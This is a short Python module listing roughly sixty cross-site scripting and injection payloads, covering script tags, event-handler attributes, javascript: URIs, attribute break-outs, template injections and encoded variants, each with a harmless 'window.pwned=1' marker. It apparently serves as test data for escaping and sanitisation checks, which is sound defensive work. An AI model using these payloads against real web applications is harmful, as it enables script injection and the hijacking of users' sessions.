"""Texts that become markup, addresses or code wherever somebody forgot that they are texts."""

from typing import Final

_TEXTS: Final = r"""
<script>CALL</script>
<SCRIPT>CALL</SCRIPT>
<script >CALL</script >
<script/x>CALL</script>
<img src=x onerror=CALL>
<img src=x onerror='CALL'>
<img/src="x"/onerror="CALL">
<IMG SRC=x ONERROR=CALL>
<svg onload=CALL>
<svg/onload=CALL>
<svg><script>CALL</script></svg>
<svg><animate onbegin=CALL attributeName=x>
<body onload=CALL>
<iframe onload=CALL>
<iframe src='javascript:CALL'>
<iframe srcdoc="<script>CALL</script>">
<details open ontoggle=CALL>
<video><source onerror=CALL>
<audio src=x onerror=CALL>
<video src=x onerror=CALL>
<input autofocus onfocus=CALL>
<select autofocus onfocus=CALL>
<textarea autofocus onfocus=CALL>
<button autofocus onfocus=CALL>x
<a href='javascript:CALL'>x</a>
<a href=x onclick=CALL>x</a>
<form action='javascript:CALL'><input type=submit>
<isindex action='javascript:CALL'>
<embed src='javascript:CALL'>
<object data='javascript:CALL'>
<math href='javascript:CALL'>x</math>
<marquee onstart=CALL>x</marquee>
<link rel=stylesheet href='javascript:CALL'>
<style>@import 'javascript:CALL';</style>
<base href='javascript:CALL//'>
<meta http-equiv=refresh content='0;url=javascript:CALL'>
<template><img src=x onerror=CALL></template>
<noscript><p title='</noscript><img src=x onerror=CALL>'>
<div style='width:expression(CALL)'>x</div>
"><script>CALL</script>
'><script>CALL</script>
</script><script>CALL</script>
</title><script>CALL</script>
</textarea><script>CALL</script>
</style><script>CALL</script>
--><script>CALL</script>
]]><script>CALL</script>
" onmouseover="CALL" x="
' onfocus='CALL' autofocus='
` onerror=`CALL
</option></select><img src=x onerror=CALL>
</td></tr></table><img src=x onerror=CALL>
<<script>CALL//<</script>
javascript:CALL
JaVaScRiPt:CALL
data:text/html,<script>CALL</script>
vbscript:CALL
${CALL}
{{constructor.constructor('CALL')()}}
';CALL;//
";CALL;//
\u003cscript\u003eCALL\u003c/script\u003e
&lt;script&gt;CALL&lt;/script&gt;
&#60;img src=x onerror=CALL&#62;
%3Cscript%3ECALL%3C/script%3E
"""
PAYLOADS: Final = tuple(line.replace("CALL", "window.pwned=1") for line in _TEXTS.strip().splitlines())
